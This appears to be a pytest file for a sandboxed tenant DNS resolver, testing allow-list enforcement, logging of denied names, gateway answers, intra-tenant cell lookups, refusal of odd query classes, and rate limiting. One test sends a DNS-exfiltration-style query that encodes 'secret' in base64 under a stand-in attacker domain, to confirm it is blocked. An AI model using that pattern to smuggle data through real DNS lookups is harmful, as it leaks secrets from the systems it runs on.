"""The tenant resolver on loopback, with a logging upstream the test runs: denied names are
NXDOMAIN, logged, and never reach the upstream; allowed names are answered with the gateway's
address; cell names answer only with intra-tenant traffic on."""

from __future__ import annotations

import asyncio
import ipaddress
import socket
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import dns.asyncquery
import dns.flags
import dns.message
import dns.opcode
import dns.rcode
import dns.rdataclass

from agentcell.netsvc.decisions import DecisionLog, read_decisions
from agentcell.netsvc.resolver import MAX_TTL_S, Resolver, ResolverLimits
from agentcell.netsvc.upstream import UpstreamResolver, parse_upstreams
from agentcell.netsvc.view import LiveView, TenantNetView
from agentcell.spec.tenant import TenantNetwork
from tests.netsvc_support import LoggingUpstream

GATEWAY = ipaddress.ip_address("127.0.0.1")  # where the test's resolver listens


def free_udp_and_tcp_port() -> int:
    while True:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.bind(("127.0.0.1", 0))
            port = int(udp.getsockname()[1])
            with socket.socket() as tcp:
                try:
                    tcp.bind(("127.0.0.1", port))
                except OSError:
                    continue
                return port


def network(allow: list[dict[str, Any]], *, intra: bool = True) -> TenantNetwork:
    return TenantNetwork.model_validate({"intra_tenant": intra, "egress": {"allow": allow}})


def view(net: TenantNetwork, cells: dict[str, str] | None = None) -> TenantNetView:
    return TenantNetView(
        tenant="acme",
        gateway=GATEWAY,
        network=net,
        cells={name: ipaddress.ip_address(a) for name, a in (cells or {}).items()},
    )


Run = Callable[[Resolver, int], Awaitable[None]]


def serve(
    tmp_path: Path,
    live: LiveView,
    upstream: str | None,
    body: Run,
    limits: ResolverLimits | None = None,
) -> DecisionLog:
    log = DecisionLog(tmp_path / "decisions.jsonl")

    async def main() -> None:
        servers = parse_upstreams(upstream or "")
        resolver = Resolver(live, upstream=UpstreamResolver(servers, timeout=1.0), log=log,
                            limits=limits)  # fmt: skip
        port = free_udp_and_tcp_port()
        await resolver.start("127.0.0.1", port)
        try:
            await body(resolver, port)
        finally:
            await resolver.close()

    asyncio.run(main())
    log.close()
    return log


async def ask(port: int, name: str, rdtype: str = "A", *, tcp: bool = False) -> dns.message.Message:
    query = dns.message.make_query(name, rdtype)
    if tcp:
        return await dns.asyncquery.tcp(query, "127.0.0.1", port=port, timeout=3)
    return await dns.asyncquery.udp(query, "127.0.0.1", port=port, timeout=3)


def test_denied_name_is_nxdomain_logged_and_never_forwarded(tmp_path: Path) -> None:
    live = LiveView(view(network([{"name": "*.pypi.org"}])))
    with LoggingUpstream({"exfil.attacker.test": "10.9.9.9"}) as upstream:

        async def body(resolver: Resolver, port: int) -> None:
            answer = await ask(port, "c2VjcmV0.exfil.attacker.test")
            assert answer.rcode() == dns.rcode.NXDOMAIN and not answer.answer
            answer = await ask(port, "pypi.org", tcp=True)  # below *.pypi.org only
            assert answer.rcode() == dns.rcode.NXDOMAIN

        log = serve(tmp_path, live, upstream.address, body)
        assert upstream.seen == []
    denied = list(read_decisions(log.path, denied_only=True))
    assert [(d.name, d.qtype, d.kind) for d in denied] == [
        ("c2vjcmv0.exfil.attacker.test", "A", "dns"), ("pypi.org", "A", "dns"),
    ]  # fmt: skip
    assert all(d.cell == "engine-dns" for d in denied)  # loopback: the host's side


def test_allowed_name_is_forwarded_and_answered_with_the_gateway(tmp_path: Path) -> None:
    live = LiveView(view(network([{"name": "*.pypi.org"}])))
    with LoggingUpstream({"files.pypi.org": "198.51.100.7"}) as upstream:

        async def body(resolver: Resolver, port: int) -> None:
            answer = await ask(port, "Files.PyPI.org")
            assert answer.rcode() == dns.rcode.NOERROR
            (rrset,) = answer.answer
            assert [r.to_text() for r in rrset] == [str(GATEWAY)]
            assert rrset.ttl <= MAX_TTL_S
            missing = await ask(port, "nothing.pypi.org")
            assert missing.rcode() == dns.rcode.NXDOMAIN  # the upstream's NXDOMAIN passes
            txt = await ask(port, "files.pypi.org", "TXT")
            assert txt.rcode() == dns.rcode.NOERROR and not txt.answer

        log = serve(tmp_path, live, upstream.address, body)
        assert upstream.seen == ["files.pypi.org", "nothing.pypi.org"]  # TXT not forwarded
    allowed = [d for d in read_decisions(log.path) if d.decision == "allow"]
    assert len(allowed) == 3 and "gateway" in allowed[0].reason


def test_without_an_upstream_allowed_names_fail(tmp_path: Path) -> None:
    live = LiveView(view(network([{"name": "pypi.org"}])))

    async def body(resolver: Resolver, port: int) -> None:
        assert (await ask(port, "pypi.org")).rcode() == dns.rcode.SERVFAIL

    log = serve(tmp_path, live, None, body)
    (entry,) = read_decisions(log.path)
    assert "no upstream" in entry.reason


def test_cell_names_answer_only_with_intra_tenant_traffic(tmp_path: Path) -> None:
    cells = {"web": "172.30.0.5", "db": "172.30.0.6"}
    live = LiveView(view(network([]), cells))

    async def body(resolver: Resolver, port: int) -> None:
        answer = await ask(port, "web")
        assert [r.to_text() for r in answer.answer[0]] == ["172.30.0.5"]
        assert (await ask(port, "web", "AAAA")).rcode() == dns.rcode.NOERROR
        assert (await ask(port, "web.example")).rcode() == dns.rcode.NXDOMAIN
        live.update(view(network([], intra=False), cells))
        assert (await ask(port, "db")).rcode() == dns.rcode.NXDOMAIN

    log = serve(tmp_path, live, None, body)
    decisions = [(d.name, d.decision) for d in read_decisions(log.path)]
    assert decisions == [("web", "allow"), ("web", "allow"), ("web.example", "deny"),
                         ("db", "deny")]  # fmt: skip


def test_other_classes_and_opcodes_are_refused(tmp_path: Path) -> None:
    live = LiveView(view(network([{"name": "pypi.org"}])))
    with LoggingUpstream({"pypi.org": "198.51.100.7"}) as upstream:

        async def body(resolver: Resolver, port: int) -> None:
            chaos = dns.message.make_query("version.bind", "TXT", rdclass=dns.rdataclass.CH)
            answer = await dns.asyncquery.udp(chaos, "127.0.0.1", port=port, timeout=3)
            assert answer.rcode() == dns.rcode.REFUSED
            notify = dns.message.make_query("pypi.org", "A")
            notify.set_opcode(dns.opcode.NOTIFY)
            answer = await dns.asyncquery.udp(notify, "127.0.0.1", port=port, timeout=3)
            assert answer.rcode() == dns.rcode.REFUSED

        serve(tmp_path, live, upstream.address, body)
        assert upstream.seen == []


def test_garbage_and_responses_are_dropped(tmp_path: Path) -> None:
    live = LiveView(view(network([])))

    async def body(resolver: Resolver, port: int) -> None:
        assert await resolver.answer(b"\x00\x01garbage", "127.0.0.1") is None
        reply = dns.message.make_response(dns.message.make_query("x.test", "A")).to_wire()
        assert await resolver.answer(reply, "127.0.0.1") is None
        assert resolver.dropped == 2
        assert (await ask(port, "x.test")).rcode() == dns.rcode.NXDOMAIN  # still serving

    serve(tmp_path, live, None, body)


def test_a_flooding_source_is_rate_limited(tmp_path: Path) -> None:
    live = LiveView(view(network([])))

    async def body(resolver: Resolver, port: int) -> None:
        wire = dns.message.make_query("x.test", "A").to_wire()
        answered = 0
        for _ in range(30):
            answered += await resolver.answer(wire, "127.0.0.9") is not None
        assert answered == 30  # answer() itself is not limited; the listeners are
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            for _ in range(30):
                udp.sendto(wire, ("127.0.0.1", port))
            await asyncio.sleep(0.3)
        assert resolver.dropped >= 20  # burst 5, 1/s

    serve(tmp_path, live, None, body, ResolverLimits(queries_per_second=1, burst=5))
